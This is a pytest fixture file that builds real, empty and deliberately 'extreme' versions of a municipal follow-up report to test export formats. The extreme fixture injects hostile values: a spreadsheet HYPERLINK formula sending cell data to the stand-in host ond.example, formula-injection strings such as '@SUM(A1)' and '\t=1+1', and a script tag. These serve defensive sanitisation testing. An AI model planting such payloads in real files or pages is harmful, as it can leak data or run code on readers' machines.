"""The three reports that every format must take: the real one, one of nothing, and one of all that is awkward."""

from dataclasses import replace
from datetime import date

import pytest

from followup.models import FollowUp
from followup.report.building import build_report
from followup.report.report import Report
from programmes.models import Programme

WORD = "Trygghetsskapandeochbrottsförebyggandesamverkansorganisation"
LONG = f"{WORD} {'Lång text om trygghet. ' * 500}"[:10_000]
FORMULA = '=HYPERLINK("http://ond.example/?x="&A1;"Klicka")'
BROKEN = "a\x00b\x0bc\ud800d <script>alert(1)</script> ]]> & 👍"
MENDED = "a\ufffdb\nc\ufffdd <script>alert(1)</script> ]]> & 👍"


@pytest.fixture
def report(huddinge) -> Report:
    return build_report(FollowUp.objects.select_related("programme").get(year=2020))


@pytest.fixture
def empty(db) -> Report:
    programme = Programme.objects.create(
        title="Tomt program", slug="tomt", first_year=2024, last_year=2027, state="active"
    )
    follow_up = FollowUp.objects.create(
        programme=programme, year=2024, opens_on=date(2024, 11, 1), due_on=date(2025, 1, 15)
    )
    return build_report(follow_up)


@pytest.fixture
def extreme(report) -> Report:
    """The real report with the worst in its first area, goal and measure."""
    area = report.areas[0]
    goal = area.sub_goals[0]
    measure = replace(
        goal.measures[0], text=FORMULA, done=BROKEN, units=("+46", "@SUM(A1)"), lead="", stop_reason="\t=1+1"
    )
    indicator = replace(goal.indicators[0], name=FORMULA, unit=WORD, source="-1")
    goal = replace(
        goal,
        text=f"{WORD} {BROKEN}",
        comment=LONG,
        units=(),
        measures=(measure, *goal.measures[1:]),
        indicators=(indicator, *goal.indicators[1:]),
    )
    area = replace(area, name="-2+3", summary=BROKEN, sub_goals=(goal, *area.sub_goals[1:]))
    return replace(
        report,
        municipality=BROKEN,
        programme=FORMULA,
        overarching_goal=LONG,
        summary=LONG,
        circumstances="\r\n\r\n",
        areas=(area, *report.areas[1:]),
    )
